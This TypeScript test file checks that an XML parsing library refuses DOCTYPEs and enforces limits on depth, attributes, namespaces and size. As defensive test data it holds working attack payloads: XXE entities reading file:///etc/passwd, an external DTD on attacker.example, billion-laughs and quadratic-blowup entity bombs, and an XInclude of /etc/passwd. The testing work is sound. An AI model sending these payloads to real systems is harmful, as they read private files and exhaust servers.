import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { DEFAULT_XML_LIMITS, parseXml, withXmlDocument, XmlError } from '../src/index.js';
import { assertXmlError } from './helpers.js';

const nested = (depth: number): string => '<e>'.repeat(depth) + '</e>'.repeat(depth);

/** Runs fn, asserts XML_DOCTYPE_FORBIDDEN and that the refusal was quick (no expansion happened). */
function assertDoctypeRefused(xml: string | Uint8Array): void {
  const started = performance.now();
  const error = assertXmlError(() => parseXml(xml), 'XML_DOCTYPE_FORBIDDEN');
  const elapsed = performance.now() - started;
  assert.ok(elapsed < 100, `refusal took ${elapsed.toFixed(1)} ms`);
  assert.match(error.message, /DOCTYPE/);
}

describe('parseXml', () => {
  it('parses a well-formed document from bytes and from a string', () => {
    const xml = '<?xml version="1.0" encoding="UTF-8"?>\n<a xmlns="urn:x" id="1"><b>tekst &amp; meer</b></a>';
    const fromBytes = parseXml(new TextEncoder().encode(xml));
    assert.equal(fromBytes.root.name, 'a');
    assert.equal(fromBytes.root.namespaceUri, 'urn:x');
    assert.equal(fromBytes.root.content, 'tekst & meer');
    fromBytes.dispose();
    const fromString = parseXml(xml);
    assert.equal(fromString.root.attr('id')?.value, '1');
    fromString.dispose();
  });

  it('reads string input as the characters it holds, whatever the XML declaration says', () => {
    const doc = parseXml('<?xml version="1.0" encoding="ISO-8859-1"?><naam>Zoë</naam>');
    assert.equal(doc.root.content, 'Zoë');
    doc.dispose();
  });

  it('honours the declared encoding of byte input', () => {
    const latin1 = Uint8Array.from(Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?><naam>Zoë</naam>', 'latin1'));
    assert.equal(withXmlDocument(latin1, (doc) => doc.root.content), 'Zoë');
    const utf16 = Uint8Array.from(Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-16"?><naam>Zoë</naam>', 'utf16le'));
    assert.equal(withXmlDocument(utf16, (doc) => doc.root.content), 'Zoë');
  });

  it('reports malformed XML with libxml2 message, line and column', () => {
    const error = assertXmlError(() => parseXml('<a>\n  <b>\n</a>'), 'XML_MALFORMED');
    assert.equal(error.line, 3);
    assert.equal(error.column, 5);
    assert.equal(error.message, 'XML is not well-formed: Opening and ending tag mismatch: b line 2 and a (line 3, column 5)');
    assert.equal(error.details[0]?.message, 'Opening and ending tag mismatch: b line 2 and a');
  });

  it('treats namespace errors and empty input as malformed', () => {
    const unbound = assertXmlError(() => parseXml('<p:a/>'), 'XML_MALFORMED');
    assert.match(unbound.message, /Namespace prefix p on a is not defined/);
    assertXmlError(() => parseXml(''), 'XML_MALFORMED');
    assertXmlError(() => parseXml(new Uint8Array()), 'XML_MALFORMED');
    assertXmlError(() => parseXml('geen xml'), 'XML_MALFORMED');
  });

  it('refuses an external entity (XXE) to file:///etc/passwd', () => {
    assertDoctypeRefused('<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n<a>&xxe;</a>');
  });

  it('refuses an external DTD and parameter entities', () => {
    assertDoctypeRefused('<!DOCTYPE a SYSTEM "http://attacker.example/evil.dtd"><a/>');
    assertDoctypeRefused('<!DOCTYPE a [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote; <!ENTITY % file SYSTEM "file:///etc/passwd">]><a/>');
  });

  it('refuses billion laughs', () => {
    let dtd = '<!ENTITY lol0 "lol">';
    for (let i = 1; i <= 9; i++) dtd += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
    assertDoctypeRefused(`<?xml version="1.0"?><!DOCTYPE lolz [${dtd}]><lolz>&lol9;</lolz>`);
  });

  it('refuses quadratic blowup', () => {
    const entity = 'x'.repeat(50_000);
    assertDoctypeRefused(`<!DOCTYPE kaboom [<!ENTITY a "${entity}">]><kaboom>${'&a;'.repeat(50_000)}</kaboom>`);
  });

  it('finds a DOCTYPE behind a BOM, comments and processing instructions, in any case, and in UTF-16', () => {
    assertDoctypeRefused('\ufeff<?xml version="1.0"?><!-- <a> --><?pi x?>\n<!DOCTYPE a []><a/>');
    assertDoctypeRefused('<!doctype a []><a/>');
    assertDoctypeRefused(Uint8Array.from(Buffer.from('\ufeff<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>', 'utf16le')));
  });

  it('does not mistake DOCTYPE text in comments or CDATA for a declaration', () => {
    const xml = '<!-- <!DOCTYPE a> --><a><![CDATA[<!DOCTYPE b [<!ENTITY x "y">]>]]><?pi <!DOCTYPE c>?></a>';
    assert.equal(withXmlDocument(xml, (doc) => doc.root.content), '<!DOCTYPE b [<!ENTITY x "y">]>');
  });

  it('refuses UCS-4 and EBCDIC input, in which a DOCTYPE could hide', () => {
    assertXmlError(() => parseXml(Uint8Array.from([0x00, 0x00, 0x00, 0x3c, 0, 0, 0, 0x61, 0, 0, 0, 0x2f, 0, 0, 0, 0x3e])), 'XML_ENCODING_UNSUPPORTED');
    assertXmlError(() => parseXml(Uint8Array.from([0x4c, 0x6f, 0xa7, 0x94, 0x93, 0x40])), 'XML_ENCODING_UNSUPPORTED');
    assertXmlError(() => parseXml(Buffer.from('<?xml version="1.0" encoding="UTF-7"?><a/>')), 'XML_ENCODING_UNSUPPORTED');
  });

  it('does not process XInclude', () => {
    const xml = '<a xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include href="file:///etc/passwd" parse="text"/></a>';
    withXmlDocument(xml, (doc) => {
      // the include element is still there, nothing was loaded in its place
      assert.equal(doc.root.content, '');
      assert.equal(doc.root.firstChild?.toString(), '<xi:include href="file:///etc/passwd" parse="text"/>');
    });
  });

  it('enforces the maximum depth (default 256, the root element is depth 1)', () => {
    assert.equal(DEFAULT_XML_LIMITS.maxDepth, 256);
    withXmlDocument(nested(256), (doc) => assert.equal(doc.root.name, 'e'));
    const error = assertXmlError(() => parseXml(nested(257)), 'XML_TOO_DEEP');
    assert.match(error.message, /maximum depth of 256/);
    assertXmlError(() => parseXml(nested(11), { maxDepth: 10 }), 'XML_TOO_DEEP');
    withXmlDocument(nested(10), () => undefined, { maxDepth: 10 });
    withXmlDocument(nested(300), () => undefined, { maxDepth: 300 });
    assertXmlError(() => parseXml(nested(301), { maxDepth: 300 }), 'XML_TOO_DEEP');
    // beyond libxml2's own hard limit
    assertXmlError(() => parseXml(nested(2049), { maxDepth: 5000 }), 'XML_TOO_DEEP');
  });

  it("accepts text nodes above libxml2's default 10 MB cap within maxBytes", () => {
    const payload = 'QUJD'.repeat(3 * 1024 * 1024);
    assert.equal(withXmlDocument(`<inhoud>${payload}</inhoud>`, (doc) => doc.root.content.length), payload.length);
  });

  it('counts depth across self-closing elements and siblings', () => {
    const xml = '<a><b/><b/><c><d/></c><c><d/></c></a>';
    withXmlDocument(xml, () => undefined, { maxDepth: 3 });
    assertXmlError(() => parseXml(xml, { maxDepth: 2 }), 'XML_TOO_DEEP');
  });

  it('enforces attributes per element, not counting namespace declarations', () => {
    const limits = { maxAttributesPerElement: 3 };
    withXmlDocument('<a xmlns="urn:a" xmlns:p="urn:p" x="1" p:y="a=b" z=\'>\'/>', () => undefined, limits);
    const spaced = '<a xmlns = "urn:a"\n xmlns:p\t=\'urn:p\' xmlnsx="1" p:xmlns="2" y="3"/>';
    withXmlDocument(spaced, () => undefined, { maxAttributesPerElement: 3, maxNamespaceDeclarationsPerElement: 2 });
    assertXmlError(() => parseXml(spaced, { maxAttributesPerElement: 2 }), 'XML_TOO_MANY_ATTRIBUTES');
    assertXmlError(() => parseXml(spaced, { maxNamespaceDeclarationsPerElement: 1 }), 'XML_TOO_MANY_NAMESPACES');
    const error = assertXmlError(() => parseXml('<a>\n<b w="1" x="2" y="3" z="4"/></a>', limits), 'XML_TOO_MANY_ATTRIBUTES');
    assert.equal(error.line, 2);
    assert.match(error.message, /4 attributes, more than the maximum of 3/);
  });

  it('enforces namespace declarations per element', () => {
    const limits = { maxNamespaceDeclarationsPerElement: 2 };
    withXmlDocument('<a xmlns="urn:a" xmlns:b="urn:b"><c xmlns:d="urn:d" xmlns:e="urn:e"/></a>', () => undefined, limits);
    assertXmlError(() => parseXml('<a xmlns="urn:a" xmlns:b="urn:b" xmlns:c="urn:c"/>', limits), 'XML_TOO_MANY_NAMESPACES');
  });

  it('scans hostile start tags in linear time', () => {
    const started = performance.now();
    assertXmlError(() => parseXml(`<a ${'='.repeat(2_000_000)}/>`), 'XML_TOO_MANY_ATTRIBUTES');
    assertXmlError(() => parseXml(`<a ${'x'.repeat(2_000_000)} ${'xmlns:p="u" '.repeat(100)}/>`), 'XML_TOO_MANY_NAMESPACES');
    assertXmlError(() => parseXml(`<a b${' '.repeat(2_000_000)}=${' '.repeat(2_000_000)}"1"`), 'XML_MALFORMED');
    const elapsed = performance.now() - started;
    assert.ok(elapsed < 2000, `took ${elapsed.toFixed(0)} ms`);
  });

  it('enforces the maximum size before parsing', () => {
    const xml = `<a>${'x'.repeat(100)}</a>`;
    assertXmlError(() => parseXml(xml, { maxBytes: 100 }), 'XML_TOO_LARGE');
    assertXmlError(() => parseXml(new TextEncoder().encode(xml), { maxBytes: 100 }), 'XML_TOO_LARGE');
    // multi-byte characters count as their UTF-8 bytes
    assertXmlError(() => parseXml(`<a>${'é'.repeat(60)}</a>`, { maxBytes: 100 }), 'XML_TOO_LARGE');
    withXmlDocument(xml, () => undefined, { maxBytes: xml.length });
  });

  it('rejects nonsensical limits', () => {
    assert.throws(() => parseXml('<a/>', { maxDepth: 0 }), RangeError);
    assert.throws(() => parseXml('<a/>', { maxBytes: Number.NaN }), RangeError);
  });
});

describe('withXmlDocument', () => {
  it('returns the callback result and disposes the document', () => {
    let kept: { root: unknown } | undefined;
    const name = withXmlDocument('<a/>', (doc) => {
      kept = doc;
      return doc.root.name;
    });
    assert.equal(name, 'a');
    assert.throws(() => kept?.root);
  });

  it('disposes when the callback throws', () => {
    let kept: { root: unknown } | undefined;
    assert.throws(() => withXmlDocument('<a/>', (doc) => {
      kept = doc;
      throw new Error('boom');
    }), /boom/);
    assert.throws(() => kept?.root);
  });

  it('disposes after an async callback settles', async () => {
    let kept: { root: unknown } | undefined;
    const name = await withXmlDocument('<a/>', async (doc) => {
      kept = doc;
      await new Promise((resolve) => setImmediate(resolve));
      return doc.root.name;
    });
    assert.equal(name, 'a');
    assert.throws(() => kept?.root);
  });

  it('throws XmlError for bad input without calling the callback', () => {
    let called = false;
    assert.throws(() => withXmlDocument('<a>', () => { called = true; }), XmlError);
    assert.equal(called, false);
  });
});
